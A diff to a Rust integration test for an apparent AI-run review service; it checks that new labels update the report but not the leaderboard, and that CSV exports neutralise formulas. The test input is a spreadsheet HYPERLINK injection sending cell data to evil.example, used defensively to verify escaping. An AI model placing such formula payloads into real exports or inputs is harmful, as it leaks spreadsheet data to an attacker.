@@ -137,9 +137,42 @@ fn review_queues_are_capped_and_paged_and_csv_exports_hold_no_formula() {
     let (_, runs) = get(&format!("{url}/api/runs?experiment=demo&outcome=clean&limit=1"));
     let run = runs["runs"][0]["id"].as_str().unwrap().to_string();
     let comment = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")";
-    let (status, body) = with_token("PUT", &format!("{url}/api/runs/{run}/label"), &e.reviewer, Some(&json!({"overeager": false, "traps": {}, "comment": comment})));
+    // The label shows in the report's agreement at once; the leaderboard is what it was.
+    let leaderboard = || {
+        agent()
+            .get(&format!("{url}/api/leaderboard?experiment=demo"))
+            .call()
+            .unwrap()
+            .body_mut()
+            .read_to_vec()
+            .unwrap()
+    };
+    let labelled = || {
+        let (_, report) = get(&format!("{url}/api/experiments/demo/report"));
+        report["labels"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|a| a["n"].as_u64().unwrap())
+            .sum::<u64>()
+    };
+    let (board_before, labelled_before) = (leaderboard(), labelled());
+    let (status, body) = with_token(
+        "PUT",
+        &format!("{url}/api/runs/{run}/label"),
+        &e.reviewer,
+        Some(&json!({"overeager": false, "traps": {}, "comment": comment})),
+    );
     assert_eq!(status, 200, "{body}");
-    let mut r = agent().get(&format!("{url}/api/labels?experiment=demo&format=csv")).call().unwrap();
+    assert!(
+        labelled() > labelled_before,
+        "the report counts the new label"
+    );
+    assert_eq!(leaderboard(), board_before);
+    let mut r = agent()
+        .get(&format!("{url}/api/labels?experiment=demo&format=csv"))
+        .call()
+        .unwrap();
     let csv = r.body_mut().read_to_string().unwrap();
     assert!(csv.contains("\"'=HYPERLINK(") && !csv.contains(",=HYPERLINK(") && !csv.contains("\"=HYPERLINK("), "{csv}");
     let exported = ok(&overeager(&["labels", "export", "--experiment", "demo", "--db", e.db.to_str().unwrap()]));
